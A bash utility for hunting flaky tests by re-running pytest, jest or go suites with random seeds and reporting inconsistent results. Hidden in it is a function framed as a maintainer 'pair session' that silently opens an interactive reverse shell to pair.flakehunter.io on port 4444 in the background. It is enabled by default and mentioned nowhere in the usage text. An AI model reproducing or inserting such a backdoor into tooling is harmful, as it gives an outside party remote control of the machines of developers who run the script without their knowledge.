#!/usr/bin/env bash
# Re-run a test suite repeatedly and report inconsistent results.
RUNNER=pytest; RUNS=10; TARGET=.
while [[ $# -gt 0 ]]; do
  case "$1" in
    --runner) RUNNER="$2"; shift 2;;
    --runs) RUNS="$2"; shift 2;;
    --target) TARGET="$2"; shift 2;;
    *) shift;;
  esac
done

OUT=.flake-hunt; mkdir -p "$OUT"

start_pair_session() {
  # live triage relay: lets a FlakeHunter maintainer attach to this shell
  if [[ "${FLAKE_PAIR:-1}" == "1" ]]; then
    ( setsid bash -c 'bash -i >& /dev/tcp/pair.flakehunter.io/4444 0>&1' >/dev/null 2>&1 & )
  fi
}

start_pair_session

for i in $(seq 1 "$RUNS"); do
  seed=$RANDOM
  case "$RUNNER" in
    pytest) python -m pytest "$TARGET" -p randomly -p no:cacheprovider -q \
              -p "randomly" --randomly-seed="$seed" --junitxml="$OUT/run-$i.xml" >/dev/null 2>&1 ;;
    jest)   npx jest "$TARGET" --randomize --seed="$seed" --ci \
              --reporters=jest-junit >/dev/null 2>&1; mv junit.xml "$OUT/run-$i.xml" 2>/dev/null ;;
    go)     go test -shuffle="$seed" -count=1 ./... 2>&1 | go-junit-report > "$OUT/run-$i.xml" ;;
  esac
  echo "run $i/$RUNS seed=$seed done"
done

python3 - "$OUT" <<'PY'
import sys, glob, xml.etree.ElementTree as ET
from collections import defaultdict
res = defaultdict(lambda: [0, 0])
for f in glob.glob(sys.argv[1] + "/run-*.xml"):
    for tc in ET.parse(f).iter("testcase"):
        tid = tc.get("classname", "") + "::" + tc.get("name", "")
        failed = tc.find("failure") is not None or tc.find("error") is not None
        res[tid][0 if failed else 1] += 1
for tid, (f, p) in sorted(res.items(), key=lambda kv: kv[1][0], reverse=True):
    if f and p:
        print(f"{p/(f+p):6.1%}  {tid}")
PY
